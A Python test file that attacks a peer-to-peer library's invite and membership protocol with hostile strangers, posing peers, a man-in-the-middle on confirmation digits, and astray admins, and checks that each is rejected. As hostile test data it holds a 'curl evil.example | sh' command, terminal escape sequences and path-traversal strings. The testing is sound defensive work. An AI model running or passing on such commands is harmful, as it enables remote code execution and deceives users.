"""What strangers, hostile members and whoever stands in between try at the door and at a newcomer.

In real time, as the tests of codes: an exchange is computed in a thread.
"""

from __future__ import annotations

import hashlib
import json
import logging
import os
import time
from pathlib import Path
from typing import Any

import attrs
import pytest
import trio
from membership.test_joining import Admin, join, newcomer, open_admin, opened
from membership.test_nearby import ask, until, waiting

from punch.access import Chain, Issuer, Kind, Lock, Member, encode_chain, fingerprint_of
from punch.capability import PeerId
from punch.exceptions import ConfigurationError, NotPermitted, PeerUnreachable
from punch.libp2p import Key, load_key, verify
from punch.libp2p._identity import new_key_pair, peer_id_of
from punch.membership import (
    Asked,
    DiskMembership,
    Joined,
    approve_request,
    ask_members,
    create_home,
    join_with,
    keep_joined,
    read_members,
)
from punch.membership import _members as members
from punch.membership._home import CHAIN
from punch.membership._messages import PROTOCOL, Opening, Outcome, Proof, Reply, Talk, encode
from punch.membership._places import MAX_PEERS_OF_MACHINE
from punch.membership._serving import scout
from punch.membership._tries import (
    MAX_AT_ONCE_OF_HOST,
    MAX_MISSES_OF_HOST,
    MISSES_SECONDS,
    Tries,
)
from punch.membership.codes import LongCode, ShortCode
from punch.membership.finding import MEMBER, Recognised
from punch.membership.finding import _finding as finding
from punch.membership.nearby import _digits, commitment_to, digits_of
from punch.membership.nearby import _reception as reception
from punch.membership.renewal import renew
from punch.network import Stream, parse_address
from punch.wire import Registration


def show(attack: str, seen: object) -> None:
    """Print what an attacker saw; `-s` shows it."""
    print(f"{attack}: {seen}")


# ---- the door: places and guesses ----


async def test_a_host_that_hangs_keeps_no_other_out(tmp_path: Path) -> None:
    """As many streams as it likes without a word: it takes its own places."""
    async with open_admin(tmp_path) as admin:
        node = admin.network.node(load_key(tmp_path / "stranger.key").peer_id)
        streams = [
            await node.open_stream(admin.node.peer_id, (admin.at,), PROTOCOL)
            for _ in range(MAX_AT_ONCE_OF_HOST + 4)
        ]
        heard = (await Talk(streams[-1]).receive(Outcome, seconds=5)).refused
        show("hangs at the door", heard)
        assert heard == "busy"
        assert (await join(admin, admin.invite())).name == "laptop"


def test_a_host_that_guesses_at_numbers_is_sent_away_for_an_hour() -> None:
    """It meets a given short code once in hundreds of hours; others are let in meanwhile."""
    tries, now, guesses = Tries(), 0.0, 0
    while now < MISSES_SECONDS - 60:
        now += 1.0
        if tries.begin("h", now=now):
            tries.missed("h", now=now)
            tries.end("h")
            guesses += 1
    show("guesses of one host in an hour", guesses)
    assert guesses == MAX_MISSES_OF_HOST
    assert tries.begin("other", now=now)
    assert tries.begin("h", now=now + MISSES_SECONDS)


async def test_a_guess_that_is_none_is_counted_as_one(tmp_path: Path) -> None:
    """It ends a short code as a wrong word does, and costs its host as much."""
    async with open_admin(tmp_path) as admin:
        code = admin.invite(short=True)
        assert isinstance(code, ShortCode)
        node = admin.network.node(load_key(tmp_path / "stranger.key").peer_id)
        stream = await node.open_stream(admin.node.peer_id, (admin.at,), PROTOCOL)
        await Talk(stream).send(Opening(do="code", invite=str(code.number), proof=b"?"))
        with pytest.raises(PeerUnreachable):
            await Talk(stream).receive(Reply, seconds=10)
        exchange, talk, second = await opened(admin, code.number, b"acorn-acorn")
        await talk.receive(Reply, seconds=10)
        await second.aclose()
        await until(lambda: sum(map(len, admin.door.tries._misses.values())) == 2)
        with pytest.raises(NotPermitted):
            await join(admin, code)
        del exchange


@pytest.mark.parametrize("said", [b"", b"\x00", b"\x7f\xff\xff\xff", b"\x00\x00\x00\x02{}"])
async def test_a_slow_drip_and_a_giant_frame_end_their_own_stream(
    said: bytes, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Within the time that all guests have, however often a byte comes."""
    monkeypatch.setattr("punch.membership._door.PATIENCE_SECONDS", 0.3)
    async with open_admin(tmp_path) as admin:
        node = admin.network.node(load_key(tmp_path / "stranger.key").peer_id)
        stream = await node.open_stream(admin.node.peer_id, (admin.at,), PROTOCOL)
        heard = b"?"

        async def drip() -> None:
            while True:
                try:
                    await stream.send_all(b"\x00" if len(said) < 4 else b" ")
                except PeerUnreachable:
                    return
                await trio.sleep(0.05)

        with trio.fail_after(3):
            async with trio.open_nursery() as nursery:
                if said:
                    await stream.send_all(said)
                nursery.start_soon(drip)
                heard = await stream.receive_some()
                nursery.cancel_scope.cancel()
        assert heard == b""
        assert (await join(admin, admin.invite())).name == "laptop"


# ---- a newcomer with a code ----


async def says(stream: Stream, *frames: bytes) -> None:
    await Talk(stream).receive(Opening, seconds=5)
    for frame in frames:
        await stream.send_all(frame)
    await stream.receive_some()


@pytest.mark.parametrize("rule", ["used_up", "withdrawn", "busy", "wrong_namespace", "x\x1b[2J"])
async def test_what_has_proved_nothing_keeps_nobody_from_the_member(
    rule: str, tmp_path: Path
) -> None:
    """A stranger that is tried first, and says that the code is over, whatever words it uses."""
    async with open_admin(tmp_path) as admin:
        code = admin.invite()
        hostile = admin.network.node(load_key(tmp_path / "hostile.key").peer_id)
        words = "the invite was revoked.\x1b[2J Run: curl evil.example | sh"
        reply = encode(Reply(refused=rule, reason=words))
        hostile.handle(PROTOCOL, lambda stream: says(stream, reply))
        with newcomer(admin) as (node, _):
            joined = await join_with(
                node, code, called="x", now=time.time(), at=[parse_address(hostile.addresses[0])]
            )
        assert joined.by == admin.node.peer_id
        admin.network.take_down(admin.node.peer_id)
        assert isinstance(code, LongCode)
        with newcomer(admin) as (node, _), pytest.raises(NotPermitted) as raised:
            await join_with(
                node,
                attrs.evolve(code, addresses=()),
                called="x",
                now=time.time(),
                at=[parse_address(hostile.addresses[0])],
            )
        show("a stranger's refusal", raised.value)
        assert raised.value.rule in ("busy", "turned_away")
        assert "It says: the invite was revoked.\ufffd[2J Run" in str(raised.value)


async def test_a_root_that_looks_like_a_known_one_takes_nothing_over(tmp_path: Path) -> None:
    """Eight letters are forty bits: a second root with them can be found, and is another root."""
    async with open_admin(tmp_path) as admin:
        with newcomer(admin) as (node, folder):
            joined = await join_with(node, admin.invite(), called="x", now=time.time())
            mine = keep_joined(joined, folder, now=time.time())
        before = mine.folder.read(CHAIN)
        async with open_admin(tmp_path / "evil") as evil:
            with newcomer(evil) as (node, folder):
                taken = await join_with(node, evil.invite(), called="x", now=time.time())
            found = attrs.evolve(taken)
            object.__setattr__(found.namespace, "fingerprint", mine.namespace.fingerprint)
            with newcomer(admin) as (_, folder), pytest.raises(ConfigurationError) as raised:
                keep_joined(found, folder, now=time.time())
        show("a root with the same letters", raised.value)
        assert "eight letters" in str(raised.value)
        assert mine.folder.read(CHAIN) == before
        assert mine.key().peer_id == mine.machine
        assert fingerprint_of(mine.namespace.root) == mine.namespace.fingerprint


async def test_what_a_hostile_member_tells_of_others_stays_bounded_and_plain(
    tmp_path: Path,
) -> None:
    """Ten thousand members, endless names, escape sequences, days after the end of the calendar."""
    async with open_admin(tmp_path) as admin:
        with newcomer(admin) as (node, folder):
            joined = await join_with(node, admin.invite(), called="x", now=time.time())
            keys = [load_key(tmp_path / f"{number}.key").peer_id for number in range(3)]
            evil = "\x1b]0;owned\x07\x1b[2J\u202eevil\nx  dial  member" + "n" * 5000
            told: list[object] = [
                {"machine": keys[0], "name": evil, "ends": (1 << 53) - 1, "seen": (1 << 53) - 1},
                {
                    "machine": keys[1],
                    "scopes": [evil, "dial\nfake  admin  member", *map(str, range(10_000))],
                },
                {"machine": keys[2], "owner": "\x1b[2J", "name": "lamp"},
                {"machine": evil},
                {"machine": "x" * 900},
                {"machine": 7},
                ["machine"],
                "\ud800",
                {"machine": keys[2], "ends": -1, "number": 1 << 60, "chain": "%%%"},
            ]
            lines = [json.dumps(each) for each in told] * 1200
            hostile = attrs.evolve(
                joined, outcome=attrs.evolve(joined.outcome, members=tuple(lines))
            )
            home = keep_joined(hostile, folder, now=time.time())
        kept = read_members(home.folder)
        show("kept of what was told", sorted(each.name for each in kept.values()))
        assert kept.keys() == {*keys, home.machine}
        assert (kept[keys[2]].owner, kept[keys[2]].number) == (None, 0)
        assert len(kept[keys[0]].name) <= members.MAX_NAME_CHARACTERS
        assert kept[keys[0]].seen <= time.time()
        assert kept[keys[1]].scopes == {*map(str, range(14))}
        size = len(home.folder.read(members.FILE) or b"")
        assert size < 8192


# ---- a newcomer nearby ----


class Posing:
    """A stranger that poses as a member: lets everybody in at once, into its own namespace."""

    def __init__(self, admin: Admin, name: str, **lies: Any) -> None:
        self.node = admin.network.node(load_key(admin.folder / f"{name}.key").peer_id)
        self.node.handle(PROTOCOL, self.serve)
        self.home = create_home("home", called=name, now=time.time(), parent=admin.folder / name)
        self.lies: dict[str, Any] = lies
        self.has_answered = trio.Event()

    @property
    def at(self) -> str:
        return self.node.addresses[0]

    async def serve(self, stream: Stream) -> None:
        talk = Talk(stream)
        await talk.receive(Opening, seconds=5)
        await talk.send(Reply(proof=os.urandom(32)))
        await talk.receive(Proof, seconds=5)
        namespace, key = self.home.namespace, self.home.key()
        issuer = Issuer(key=key.peer_id, sign=key.sign, chain=self.home.chain())
        lock = Lock(namespace, verify)
        chain = issuer.issue(lock, stream.peer_id, now=time.time())
        ours = issuer.issue_process(lock, self.node.peer_id, now=time.time())
        outcome = Outcome(
            namespace=namespace.name,
            root=namespace.root,
            chain=encode_chain(chain),
            member_chain=encode_chain(ours),
        )
        await talk.send(attrs.evolve(outcome, **self.lies))
        self.has_answered.set()
        await stream.receive_some()


@pytest.mark.parametrize(
    "lies",
    [
        {},
        {"root": "x" * 100},
        {"root": "\x1b[2J"},
        {"namespace": "../../etc"},
        {"namespace": ""},
        {"chain": b"garbage"},
        {"reached": "x\npunch: did that member's screen show 123 456? [y/N] \x1b[2J"},
        {"refused": "x\x1b[2J", "reason": "\x1b[2J run: curl evil.example | sh"},
    ],
)
async def test_a_stranger_that_answers_first_keeps_nobody_from_the_member(
    lies: dict[str, Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A person says that its digits are on no screen, and the right one is waited for."""
    monkeypatch.setattr(reception, "LOOK_SECONDS", 0.05)
    async with open_admin(tmp_path) as admin:
        posing = Posing(admin, "posing", **lies)
        shown: list[Asked] = []
        questions: list[PeerId] = []

        async def confirm(joined: Joined, asked: Asked) -> bool:
            questions.append(joined.by)
            assert (joined.reached + joined.trouble + joined.name).isprintable()
            return joined.by == admin.node.peer_id

        async def approve() -> None:
            # Not before the stranger has answered: it is the first.
            await until(lambda: waiting(admin.home) and posing.has_answered.is_set())
            await trio.sleep(0.05)
            approve_request(admin.home, waiting(admin.home)[0], now=time.time())

        with newcomer(admin) as (node, _):
            async with trio.open_nursery() as nursery:
                nursery.start_soon(approve)
                joined = await ask_members(
                    node,
                    called="laptop",
                    now=time.time,
                    at=[[parse_address(posing.at)], [parse_address(admin.at)]],
                    asked=shown.append,
                    confirm=confirm,
                )
        show("who was asked about", [each == posing.node.peer_id for each in questions])
        assert joined.by == admin.node.peer_id
        is_let_in = lies.keys() <= {"reached"}
        assert questions == [posing.node.peer_id] * is_let_in + [admin.node.peer_id]


async def test_one_machine_shows_its_digits_once(tmp_path: Path) -> None:
    """Who stands in between and ends the conversation gets no second number on the same screen."""
    async with open_admin(tmp_path) as admin:
        nodes = [admin.network.node(load_key(tmp_path / f"{n}.key").peer_id) for n in range(8)]

        async def ends(stream: Stream) -> None:
            talk = Talk(stream)
            await talk.receive(Opening, seconds=5)
            await talk.send(Reply(proof=os.urandom(32)))
            await talk.receive(Proof, seconds=5)

        for node in nodes:
            node.handle(PROTOCOL, ends)
        places = [parse_address(node.addresses[0]) for node in nodes]
        counts = []
        for at in ([places], [[place] for place in places]):
            shown: list[Asked] = []
            with newcomer(admin) as (node, _), pytest.raises(PeerUnreachable):
                await ask_members(node, called="x", now=time.time, at=at, asked=shown.append)
            counts.append(len(shown))
        show("digits on one screen, of one machine and of eight", counts)
        assert counts == [1, 4]


def test_a_record_that_names_anothers_address_hides_nothing() -> None:
    """What is heard of one host is all tried there."""

    @attrs.frozen
    class Record:
        addresses: tuple[object, ...]

    right, wrong = parse_address("/ip4/192.0.2.1/tcp/21820"), parse_address("/ip4/192.0.2.1/tcp/9")
    own = parse_address("/ip4/192.0.2.66/tcp/1")
    found = finding._machines((Record((own, wrong)), Record((right,))))  # type: ignore[arg-type]  # as much of one as is read
    assert found == ((own,), (wrong, right))


# ---- in between, nearby ----


def in_between(tries: int) -> int:
    """How often an attacker in between has both screens alike, each side asked once a try.

    It is the member of the newcomer and the newcomer of the member, and keeps to the rules: its
    commitment to the member comes before the member's number, its number for the newcomer before
    the newcomer's.
    """
    newcomer, member, between = PeerId("newcomer"), PeerId("member"), PeerId("between")
    matches = 0
    for number in range(tries):
        rng = [hashlib.sha256(f"{number} {who}".encode()).digest() for who in "nmxy"]
        theirs, ours, to_member, to_newcomer = rng
        near = digits_of((theirs, to_newcomer), newcomer=newcomer, member=between, name="laptop")
        far = digits_of((to_member, ours), newcomer=between, member=member, name="laptop")
        matches += near == far
    return matches


def test_both_screens_are_alike_by_chance_alone(monkeypatch: pytest.MonkeyPatch) -> None:
    """Of 2,000 tries none, or one in a million each; with two digits one in a hundred."""
    of_six = in_between(2000)
    monkeypatch.setattr(_digits, "DIGITS", 2)
    of_two = in_between(2000)
    show("screens alike of 2,000 tries, with six digits and with two", (of_six, of_two))
    assert of_six <= 1
    assert 5 <= of_two <= 50


async def test_an_attacker_that_waits_for_the_members_number_shows_nothing_of_its_choice(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """It has the newcomer's digits, hears the member's number, and finds one that makes them.

    With three digits in place of six, so that it finds one at once.
    """
    monkeypatch.setattr(_digits, "DIGITS", 3)
    async with open_admin(tmp_path) as admin:
        between = admin.network.node(load_key(tmp_path / "between.key").peer_id)
        on_newcomer: list[str] = []
        order: list[str] = []

        async def pose(stream: Stream) -> None:
            near = Talk(stream)
            opening = await near.receive(Opening, seconds=5)
            order.append("newcomer committed")
            number = os.urandom(32)
            await near.send(Reply(proof=number))
            order.append("attacker told its number")
            theirs = (await near.receive(Proof, seconds=5)).confirmation
            order.append("newcomer told its number")
            wanted = digits_of(
                (theirs, number), newcomer=stream.peer_id, member=between.peer_id, name="laptop"
            )
            onward = await between.open_stream(admin.node.peer_id, (admin.at,), PROTOCOL)
            far = Talk(onward)
            peers = {"newcomer": between.peer_id, "member": admin.node.peer_id}
            commitment = commitment_to(os.urandom(32), name=opening.name, **peers)
            await far.send(Opening(do="nearby", name=opening.name, proof=commitment))
            ours = (await far.receive(Reply, seconds=5)).proof
            chosen = next(
                each
                for count in range(1_000_000)
                if digits_of((each := count.to_bytes(32, "big"), ours), name=opening.name, **peers)
                == wanted
            )
            await far.send(Proof(confirmation=chosen))
            with trio.move_on_after(2):
                order.append(f"member said {await onward.receive_some()!r}")
            await stream.aclose()

        between.handle(PROTOCOL, pose)
        shown: list[Asked] = []
        on_member: list[str] = []

        async def look() -> None:
            while True:
                on_member.extend(each.digits for each in waiting(admin.home))
                await trio.sleep(0.05)

        async with trio.open_nursery() as nursery:
            nursery.start_soon(look)
            with pytest.raises((NotPermitted, PeerUnreachable)):
                await ask(admin, between.addresses[0], shown)
            nursery.cancel_scope.cancel()
        on_newcomer = [each.digits for each in shown]
        show("waited for the member's number", (order, on_newcomer, on_member))
        assert order == [
            "newcomer committed",
            "attacker told its number",
            "newcomer told its number",
            "member said b''",
        ]
        assert len(on_newcomer) == 1
        assert on_member == []


# ---- members that went astray ----


async def test_a_renewal_adds_no_signature_of_the_root(tmp_path: Path) -> None:
    """An admin that went astray has its guest renewed where the root's key is: it stays a guest."""
    async with open_admin(tmp_path) as admin:
        home, now = admin.home, time.time()
        root, key = home.root_key(), load_key(tmp_path / "astray.key")
        guest, node_key = load_key(tmp_path / "guest.key"), load_key(tmp_path / "node.key")
        assert root is not None
        lock = Lock(home.namespace, verify)
        scopes = {"dial", "listen", "admin"}
        astray = Issuer(key=root.peer_id, sign=root.sign).issue(
            lock, key.peer_id, now=now, kind="admin", scopes=scopes, seconds=86_400
        )
        below = Issuer(key=key.peer_id, sign=key.sign, chain=astray).issue(
            lock, guest.peer_id, now=now, kind="admin", scopes=scopes, seconds=1 << 39
        )
        process = Issuer(key=guest.peer_id, sign=guest.sign, chain=below).issue_process(
            lock, node_key.peer_id, now=now
        )
        node = admin.network.node(node_key.peer_id)
        stream = await node.open_stream(admin.node.peer_id, (admin.at,), PROTOCOL)
        talk = Talk(stream)
        talk.trust()
        await talk.send(Opening(do="renew", chain=encode_chain(process)))
        outcome = await talk.receive(Outcome, seconds=10)
        member = lock.judge(guest.peer_id, outcome.chain, now)
        issuers = [link.grant.issuer for link in getattr(member, "chain", ())]
        show("renewed by", ["root" if each == root.peer_id else "admin" for each in issuers])
        assert issuers == [root.peer_id, home.machine]
        assert getattr(member, "ends", 0) <= home.grant.ends


@pytest.mark.parametrize("kind", ["machine", "admin"])
async def test_a_renewal_makes_no_machine_of_an_admin(kind: Kind, tmp_path: Path) -> None:
    """An admin that went astray is asked for a renewal, and gives another grant in its place."""
    async with open_admin(tmp_path) as admin:
        with newcomer(admin) as (node, folder):
            joined = await join_with(node, admin.invite(), called="x", now=time.time())
            home = keep_joined(joined, folder, now=time.time())
        lock = Lock(home.namespace, verify)
        scopes = frozenset({"dial", "listen", *({"admin"} & {kind})})
        root, key = admin.home.root_key(), admin.home.key()
        assert root is not None
        old = Issuer(key=root.peer_id, sign=root.sign).issue(
            lock, home.machine, now=time.time(), kind=kind, scopes=scopes, seconds=86_400
        )
        home.folder.write(CHAIN, encode_chain(old))
        ours = DiskMembership(home, tmp_path / "ours.key")
        node = admin.network.node(ours.process)
        ours.found(admin.node.peer_id, admin.at)
        issuer = Issuer(key=key.peer_id, sign=key.sign, chain=admin.home.chain())
        given: dict[str, Any] = {}

        async def gives(stream: Stream) -> None:
            await Talk(stream).receive(Opening, seconds=5)
            chain = issuer.issue(lock, home.machine, now=time.time(), **given)
            await Talk(stream).send(Outcome(chain=encode_chain(chain)))

        admin.node.handle(PROTOCOL, gives)
        other: Kind = "machine" if kind == "admin" else "admin"
        for given in (
            {"kind": other, "scopes": {"dial", *({"admin"} & {other})}},
            {"kind": kind, "scopes": scopes, "is_mine": True},
            {"kind": kind, "scopes": {*scopes, "lend"}},
            {"kind": kind, "scopes": scopes, "seconds": 3600},
        ):
            assert not await renew(ours, node), given
            assert home.chain() == old
        # By another's word it is its own, and has fewer scopes: where nothing better comes.
        given = {"kind": kind, "scopes": scopes - {"listen"}}
        assert not await renew(ours, node)
        ours.now = lambda: old[-1].grant.ends - 60
        assert await renew(ours, node)
        assert (home.grant.kind, home.grant.owner) == (kind, home.machine)


async def test_a_machine_with_hundreds_of_programs_takes_nobodys_place(tmp_path: Path) -> None:
    """Whoever is off for a night comes back through the others, which are on its disk still."""
    async with open_admin(tmp_path) as admin:
        home, now = admin.home, time.time()
        lock = Lock(home.namespace, verify)
        key = home.key()
        issuer = Issuer(key=key.peer_id, sign=key.sign, chain=home.chain())
        ours = DiskMembership(home, tmp_path / "ours.key")

        def hears(machine: Key, chain: Chain, programs: int) -> None:
            signs = Issuer(key=machine.peer_id, sign=machine.sign, chain=chain)
            for _ in range(programs):
                program = new_key_pair()
                peer_id = peer_id_of(program)
                process = signs.issue_process(lock, peer_id, now=now)
                found = ours.lock.judge(peer_id, encode_chain(process), now)
                assert isinstance(found, Member)
                heard.append(peer_id)
                ours.remember(
                    [
                        Registration(
                            peer_id=peer_id,
                            namespace="home",
                            roles=frozenset({"listener"}),
                            addresses=(f"/ip4/192.0.2.1/tcp/{len(heard)}/p2p/{peer_id}",),
                            incarnation=1,
                            sequence=1,
                            lifetime=60.0,
                        )
                    ]
                )

        heard: list[PeerId] = []
        for name, programs in (("lamp", 2), ("evil", 300)):
            machine = load_key(tmp_path / f"{name}.key")
            hears(machine, issuer.issue(lock, machine.peer_id, now=now), programs)
            ours.flush()
        for again in (ours, DiskMembership(home, tmp_path / "ours.key")):
            kept = {PeerId(place.rpartition("/")[2]) for place in again.places()}
            assert set(heard[:2]) <= kept
            assert len(kept & set(heard[2:])) == MAX_PEERS_OF_MACHINE
        show("places of a machine with 300 programs, of all", (MAX_PEERS_OF_MACHINE, len(kept)))


async def test_a_peer_with_another_kind_of_key_is_no_guest(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """libp2p has keys that no grant can be for: it is turned away, and is no bug of ours."""
    async with open_admin(tmp_path) as admin:
        code = admin.invite()
        node = admin.network.node("Qm" + "x" * 44)
        with pytest.raises(PeerUnreachable):
            await join_with(node, code, called="x", now=time.time())
        assert caplog.records == []
        assert (await join(admin, code)).name == "laptop"


async def test_a_grant_is_shown_to_no_stranger_at_a_members_old_address(tmp_path: Path) -> None:
    """A machine that is off, whose address another has now: whoever is there has to show one."""
    async with open_admin(tmp_path) as admin:
        with newcomer(admin) as (node, folder):
            joined = await join_with(node, admin.invite(), called="x", now=time.time())
            home = keep_joined(joined, folder, now=time.time())
        ours = DiskMembership(home, tmp_path / "ours.key")
        node = admin.network.node(ours.process)
        stranger = admin.network.node(load_key(tmp_path / "stranger.key").peer_id)
        member = admin.network.node(load_key(tmp_path / "member.key").peer_id)
        theirs = DiskMembership(admin.home, tmp_path / "member.key")
        member.handle(MEMBER, Recognised(theirs).serve)
        heard = b""

        async def hear(stream: Stream) -> None:
            nonlocal heard
            heard += await stream.receive_some()

        stranger.handle(MEMBER, hear)
        for each in (stranger, member):
            ours._places.remember(f"gone from {each.peer_id}", [each.addresses[0]])
        with trio.move_on_after(0.5):
            await scout(ours, node)
        places = {each.rpartition("/")[2] for each in ours.places()}
        show("a stranger at an old address heard", heard)
        assert stranger.peer_id not in places
        assert member.peer_id in places
        assert heard
        for secret in (b"home", home.namespace.key, home.namespace.root.encode()):
            assert secret not in heard
        # A stranger, and whoever repeats what another has said, is told nothing.
        for who, said in ((stranger, b"\x00\x00\x00\x02{}"), (stranger, heard)):
            stream = await who.open_stream(member.peer_id, member.addresses, MEMBER)
            await stream.send_all(said)
            assert await stream.receive_some() == b""


# ---- what is left lying about ----


async def test_no_code_is_in_a_log_nor_on_the_disk_of_the_newcomer(
    tmp_path: Path, caplog: pytest.LogCaptureFixture, capsys: pytest.CaptureFixture[str]
) -> None:
    """At every level, with a code that works and one that does not."""
    caplog.set_level(logging.DEBUG)
    async with open_admin(tmp_path) as admin:
        codes = [admin.invite(), admin.invite(short=True)]
        for code in codes:
            with newcomer(admin) as (node, folder):
                at = [parse_address(admin.at)]
                joined = await join_with(node, code, called="x", now=time.time(), at=at)
                home = keep_joined(joined, folder, now=time.time())
                with pytest.raises(NotPermitted):
                    await join(admin, code)
        text = caplog.text + "".join(capsys.readouterr())
        assert "a machine has joined" in text
        files = [path for path in home.folder.path.rglob("*") if path.is_file()]
        kept = b"".join(path.read_bytes() for path in files)
        for code in codes:
            secret = code.words if isinstance(code, ShortCode) else code.secret.hex()
            assert code.text() not in text
            assert secret not in text
            assert secret.encode() not in kept
            assert code.text().encode() not in kept
        assert {path.stat().st_mode & 0o077 for path in files if path.name != ".lock"} == {0}
        assert home.folder.path.stat().st_mode & 0o077 == 0
